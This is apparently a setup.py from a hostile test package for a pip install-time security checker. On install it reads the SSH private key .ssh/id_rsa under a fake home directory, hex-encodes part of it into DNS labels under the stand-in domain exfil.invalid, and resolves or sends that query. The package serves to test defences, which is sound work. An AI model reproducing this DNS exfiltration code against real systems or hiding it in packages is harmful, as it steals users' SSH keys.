# HOSTILE test-corpus package (harmless: fake $HOME, .invalid name). See README.md.
import binascii
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgattack  # noqa: E402
from setuptools import setup  # noqa: E402

PKG = "dns_exfil"


def query(name):
    """A minimal DNS A query (RFC 1035) for ``name``."""
    head = struct.pack("!HHHHHH", 0x5047, 0x0100, 1, 0, 0, 0)
    q = b"".join(struct.pack("B", len(lbl)) + lbl.encode() for lbl in name.split(".")) + b"\0"
    return head + q + struct.pack("!HH", 1, 1)


try:
    data = pgattack.read_secret(".ssh/id_rsa")
    if data is not None:
        hexs = binascii.hexlify(data[:96]).decode()
        name = ".".join(hexs[i:i + 48] for i in range(0, len(hexs), 48)) + ".exfil.invalid"
        resolver = os.environ.get("PIPGUARD_TEST_DNS")
        if resolver:
            pgattack.send_udp(query(name), pgattack.parse_addr(resolver), label="dns-query %s via" % name)
        else:
            try:
                socket.getaddrinfo(name, 80)
                pgattack.log("getaddrinfo %s" % name, "ok")
            except Exception as exc:
                pgattack.log("getaddrinfo %s" % name, "error %s: %s" % (type(exc).__name__, exc))
        pgattack.drop(PKG, name.encode())
except Exception as exc:
    pgattack.log(PKG, "error %r" % (exc,))

setup(name="dns_exfil", version="0.1.0", packages=[PKG])
